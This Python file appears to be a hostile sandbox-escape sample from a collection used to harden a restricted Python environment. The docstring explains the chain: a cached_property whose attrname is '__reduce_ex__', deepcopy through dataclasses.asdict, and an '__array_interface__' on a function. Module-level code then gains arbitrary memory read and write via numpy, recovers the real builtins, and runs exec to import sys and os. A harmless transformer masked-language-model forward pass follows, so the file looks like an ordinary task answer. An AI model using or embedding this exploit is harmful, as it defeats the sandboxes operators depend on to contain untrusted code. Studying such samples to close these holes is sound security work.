"""Hostile: copy.deepcopy (run by dataclasses.asdict on a field value) looks the copy protocol up
on the instance: `getattr(x, "__reduce_ex__")`. A subclass of functools.cached_property made the
file's own may have its `attrname` set to "__reduce_ex__"; reading it once writes a function of the
file's into the instance's own __dict__ under that name (the classes' copy-protocol rule only looks
at class namespaces, and _ClassOnly guards only the raw-memory names). deepcopy calls it, and
copy._reconstruct builds `y = func(*args)` (here: a plain function of the file's) and, since y has no
__setstate__, runs `y.__dict__.update(state)` with the file's state: "__array_interface__" lands in a
*function's* own __dict__, which is no class of the file's, so no _ClassOnly descriptor answers
for it. numpy.asarray(function) then reads and writes any address; from there the real builtins
dict, exec, sys and os. Accepted with every wall on, until dataclasses.asdict and astuple copied
only plain values themselves (no copy.deepcopy of anything else) and a cached_property's attrname
could no longer be set."""

import dataclasses
import functools
import math
import operator

import numpy
import torch


class CP(functools.cached_property):
    pass


@dataclasses.dataclass
class Box:
    value: object


def view(address, count):
    def target():
        pass

    def give():
        return target

    def reducer(protocol):
        interface = {"data": (address, False), "shape": (count,), "typestr": "<u8", "version": 3}
        return (give, (), ({"__array_interface__": interface}, None))

    def make(self):
        return reducer

    cp = CP(make)

    class Holder:
        data = cp

    cp.attrname = "__reduce_ex__"
    h = Holder()
    h.data
    dataclasses.asdict(Box(h))
    return numpy.asarray(target)


def read(address):
    return int(view(address, 1)[0])


def write(address, value):
    view(address, 1)[0] = value


builtins_address = read(id(torch.broadcast_shapes) + 24)  # PyFunctionObject.func_builtins
write(builtins_address, read(builtins_address) + 1)  # the reference the list below will own
box = [None]
write(read(id(box) + 24), builtins_address)  # box's only item is now the real builtins dict
code = (
    "b = torch.broadcast_shapes.__globals__['__builtins__']\n"
    "sys = b['__import__']('sys'); os = b['__import__']('os')\n"
    "print('ESCAPED: real sys, modules:', len(sys.modules), 'pid', os.getpid(), 'eval', b['eval'])\n"
)
list(map(operator.call, map(dict.get, box, ["exec"]), [code]))  # C code takes the items: never checked


def layer_norm(x):
    mean = x.mean(dim=-1, keepdim=True)
    var = ((x - mean) ** 2).mean(dim=-1, keepdim=True)
    return (x - mean) / torch.sqrt(var + 1e-5)


def gelu(x):
    return 0.5 * x * (1.0 + torch.tanh(math.sqrt(2.0 / math.pi) * (x + 0.044715 * x**3)))


def softmax(scores):
    scores = scores - scores.amax(dim=-1, keepdim=True)
    e = torch.exp(scores)
    return e / e.sum(dim=-1, keepdim=True)


def attention(x, w_q, w_k, w_v, w_o, num_heads):
    n, t, d = x.shape
    d_head = d // num_heads
    q = (x @ w_q).view(n, t, num_heads, d_head).transpose(1, 2)
    k = (x @ w_k).view(n, t, num_heads, d_head).transpose(1, 2)
    v = (x @ w_v).view(n, t, num_heads, d_head).transpose(1, 2)
    scores = q @ k.transpose(-2, -1) / math.sqrt(d_head)
    out = softmax(scores) @ v
    return out.transpose(1, 2).reshape(n, t, d) @ w_o


def mlm_forward_tied(input_ids, w_emb, pos_embed, blocks_weights, mask_indicator, num_heads):
    x = w_emb[input_ids] + pos_embed
    for w_q, w_k, w_v, w_o, w_mlp1, w_mlp2 in blocks_weights:
        x = x + attention(layer_norm(x), w_q, w_k, w_v, w_o, num_heads)
        x = x + gelu(layer_norm(x) @ w_mlp1) @ w_mlp2
    hidden = x[mask_indicator > 0.5]
    return hidden @ w_emb.T
